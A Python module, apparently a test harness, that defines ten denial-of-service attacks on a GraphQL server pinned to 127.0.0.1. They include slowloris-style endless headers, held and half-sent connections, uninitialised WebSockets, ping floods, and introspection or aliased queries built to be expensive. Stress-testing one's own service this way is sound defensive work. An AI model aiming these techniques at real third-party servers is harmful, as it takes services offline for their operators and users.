"""Attacks of callers without a token, and of readers. Each is bounded in connections, and ends when it is cancelled."""

import asyncio
import itertools
import json
from collections.abc import AsyncGenerator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

from graphql import get_introspection_query

# The only host that is ever attacked.
HOST = "127.0.0.1"
HELD_CONNECTIONS = 200
PIECE = b"a" * 65_536
PAUSE_SECONDS = 0.005
UPGRADE = (
    b"GET /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n"
)
PINGS = (bytes([0x89, 0x80 | 125]) + bytes(4) + b"p" * 125) * 500
ALIASES = 29
MISSING_LAB = "TGFiOjEwMDAwMDAwMDA="
INTROSPECTION = get_introspection_query()

Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@dataclass
class Target:
    """The server, and what a reader knows of it."""

    port: int
    token: str
    version: str
    numbers: Iterator[int] = field(default_factory=itertools.count)

    @asynccontextmanager
    async def connections(self) -> AsyncGenerator[Callable[[], Awaitable[Connection]]]:
        """Open connections, and close all of them at the end."""
        writers: list[asyncio.StreamWriter] = []

        async def opened() -> Connection:
            reader, writer = await asyncio.open_connection(HOST, self.port)
            writers.append(writer)
            return reader, writer

        try:
            yield opened
        finally:
            for writer in writers:
                writer.transport.abort()

    async def ask(self, connection: Connection, query: str, *, token: str | None = None) -> None:
        """Send a query, and read the response."""
        reader, writer = connection
        body = json.dumps({"query": query}).encode()
        authorization = f"Authorization: Bearer {token}\r\n" if token else ""
        head = f"POST /graphql HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n{authorization}"
        writer.write(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
        header = await reader.readuntil(b"\r\n\r\n")
        length = next(line for line in header.lower().split(b"\r\n") if line.startswith(b"content-length:"))
        await reader.readexactly(int(length.partition(b":")[2]))


async def endless_header(target: Target) -> None:
    """Send one header field without an end."""
    async with target.connections() as connect:
        _, writer = await connect()
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: ")
        while True:
            writer.write(PIECE)
            await writer.drain()
            await asyncio.sleep(PAUSE_SECONDS)


async def silent_connections(target: Target) -> None:
    """Hold connections that say nothing."""
    async with target.connections() as connect:
        for _ in range(HELD_CONNECTIONS):
            await connect()
        await asyncio.Event().wait()


async def unfinished_bodies(target: Target) -> None:
    """Send bodies without their last bytes."""
    head = b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 262144\r\n\r\n"
    async with target.connections() as connect:
        for _ in range(HELD_CONNECTIONS):
            _, writer = await connect()
            writer.write(head + PIECE * 3)
            await writer.drain()
        await asyncio.Event().wait()


async def sockets_without_init(target: Target) -> None:
    """Open WebSockets that are never initialised, again when they are closed."""
    while True:
        async with target.connections() as connect:
            held = [await connect() for _ in range(HELD_CONNECTIONS)]
            for _, writer in held:
                writer.write(UPGRADE)
            await asyncio.wait([asyncio.create_task(reader.read()) for reader, _ in held], timeout=2.0)


async def unread_pings(target: Target) -> None:
    """Send pings whose pongs are never read."""
    async with target.connections() as connect:
        _, writer = await connect()
        writer.write(UPGRADE)
        while True:
            writer.write(PINGS)
            await writer.drain()
            await asyncio.sleep(PAUSE_SECONDS)


async def invalid_introspection(target: Target) -> None:
    """Send invalid documents that are expensive to validate."""
    await _repeat(target, lambda number: "{__schema{nope%d types{%s}}}" % (number, "fields{name} " * 65))  # noqa: UP031


async def new_introspection(target: Target) -> None:
    """Query the whole schema, each time by a document that is in no cache."""
    await _repeat(target, lambda number: INTROSPECTION.replace("IntrospectionQuery", f"I{number}", 1))


async def expensive_lists(target: Target) -> None:
    """Count images, as often as one operation may, with a reader's token."""
    await _repeat(target, lambda _: lists(), target.token)


async def estimates(target: Target) -> None:
    """Estimate costs with a reader's token."""
    await _repeat(target, lambda _: estimates_of(target.version), target.token)


async def refused_mutations(target: Target) -> None:
    """Run mutations that are refused."""
    await _repeat(target, lambda _: deletions(), target.token)


def lists() -> str:
    """Return a valid document that counts images."""
    images = " ".join(f'a{n}: images(first: 1, regionName: "r{n}") {{ totalCount }}' for n in range(ALIASES))
    return f'{{ labAccount(name: "bench") {{ {images} }} }}'


def estimates_of(version: str) -> str:
    """Return a valid document that estimates costs."""
    estimate = f'estimateCost(input: {{subject: {{imageVersionId: "{version}"}}}}) {{ monthlyStorage {{ amount }} }}'
    return f"{{ {' '.join(f'a{n}: {estimate}' for n in range(ALIASES))} }}"


def deletions() -> str:
    """Return a valid document of mutations that are refused."""
    delete = f'deleteLab(input: {{labId: "{MISSING_LAB}"}}) {{ deletedId }}'
    return f"mutation {{ {' '.join(f'a{n}: {delete}' for n in range(ALIASES))} }}"


async def _repeat(target: Target, query: Callable[[int], str], token: str | None = None) -> None:
    async with target.connections() as connect:
        connection = await connect()
        while True:
            await target.ask(connection, query(next(target.numbers)), token=token)


ATTACKS: tuple[Callable[[Target], Awaitable[None]], ...] = (
    endless_header,
    silent_connections,
    unfinished_bodies,
    sockets_without_init,
    unread_pings,
    invalid_introspection,
    new_introspection,
    expensive_lists,
    estimates,
    refused_mutations,
)
